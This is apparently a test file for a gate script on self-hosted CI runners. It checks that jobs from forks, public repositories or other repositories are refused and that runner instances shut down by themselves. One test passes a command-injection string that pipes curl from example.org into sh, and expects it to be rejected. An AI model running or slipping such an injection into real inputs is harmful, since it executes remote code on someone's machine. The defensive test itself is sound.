import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gateScript, RUNNER_FOLDER, startScript, userData } from '../../lib/runner/gate-script';
import { TERMS } from './world';

const folder = mkdtempSync(join(tmpdir(), 'gate-'));
const own = { id: 1, full_name: 'acme/shop', private: true, fork: false };
const proposed = (head: object | null) => ({
  repository: own,
  pull_request: { head: { repo: head }, base: { repo: own } },
});

beforeAll(() => {
  mkdirSync(join(folder, 'image/externals/node22/bin'), { recursive: true });
  symlinkSync(process.execPath, join(folder, 'image/externals/node22/bin/node'));
  // Like the program of the runner: what the hook says comes before the job.
  const runner = [
    '#!/bin/bash',
    'bash -e "$ACTIONS_RUNNER_HOOK_JOB_STARTED" || exit 3',
    'env > steps.txt',
    'echo "$@" >> steps.txt',
  ];
  writeFileSync(join(folder, 'image/run.sh'), `${runner.join('\n')}\n`);
  chmodSync(join(folder, 'image/run.sh'), 0o755);
});

afterAll(() => rmSync(folder, { recursive: true }));

/** Starts a runner whose job is of an event, and gives its steps, or what was said in place of them. */
function job(event: object, name = 'acme/shop', terms = TERMS): string {
  const work = mkdtempSync(join(folder, 'work-'));
  writeFileSync(join(work, 'event.json'), JSON.stringify(event));
  const script = startScript(terms, join(work, 'runner')).replace(RUNNER_FOLDER, join(folder, 'image'));
  mkdirSync(join(work, 'runner'));
  const { stdout, stderr, status } = spawnSync('bash', ['-c', script], {
    encoding: 'utf8',
    env: {
      PATH: process.env.PATH,
      RUNNER_CONFIG: 'abc=',
      GITHUB_REPOSITORY: name,
      GITHUB_EVENT_PATH: join(work, 'event.json'),
    },
  });
  return status === 0 ? readFileSync(join(work, 'runner/steps.txt'), 'utf8') : stdout + stderr;
}

test('a job that is served begins, with the configuration out of its environment', () => {
  for (const event of [{ repository: own }, { schedule: '0 0 * * *' }, proposed(own)]) {
    const steps = job(event, 'Acme/shop');
    expect(steps).toMatch(/--jitconfig abc=\n$/);
    expect(steps).not.toContain('RUNNER_CONFIG');
    expect(steps).toMatch(/^HOME=.*runner$/m);
  }
});

test.each([
  ['another repository', { repository: own }, 'acme/site', 'jobs of acme/site are not served here'],
  ['a public repository', { repository: { ...own, private: false } }, 'acme/shop', 'jobs of public repositories'],
  ['a repository that is a fork', { repository: { ...own, fork: true } }, 'acme/shop', 'jobs of forks'],
  ['a pull request of a fork', proposed({ id: 2 }), 'acme/shop', 'jobs of forks'],
  ['a pull request of a fork that is gone', proposed(null), 'acme/shop', 'jobs of forks'],
])('a job of %s fails before its first step', (_, event, name, because) => {
  expect(job(event, name)).toContain(because);
});

test('what is allowed begins', () => {
  expect(job(proposed({ id: 2 }), 'acme/shop', { ...TERMS, forks: true })).toContain('--jitconfig');
  const isPublic = { repository: { ...own, private: false } };
  expect(job(isPublic, 'acme/shop', { ...TERMS, publicRepositories: true })).toContain('--jitconfig');
});

test('a gate that cannot judge lets no job begin', () => {
  expect(spawnSync('bash', ['-e', '-c', gateScript(TERMS)], { env: { BULWARK_RUNNER: '/nowhere' } }).status).not.toBe(
    0,
  );
});

test('an instance ends by itself, and takes no configuration that is none', () => {
  const script = userData(TERMS, 'abc=');
  expect(script).toContain('shutdown -h +60');
  execFileSync('bash', ['-n'], { input: script });
  expect(() => userData(TERMS, "'; curl example.org | sh; '")).toThrow('not of Base64');
});
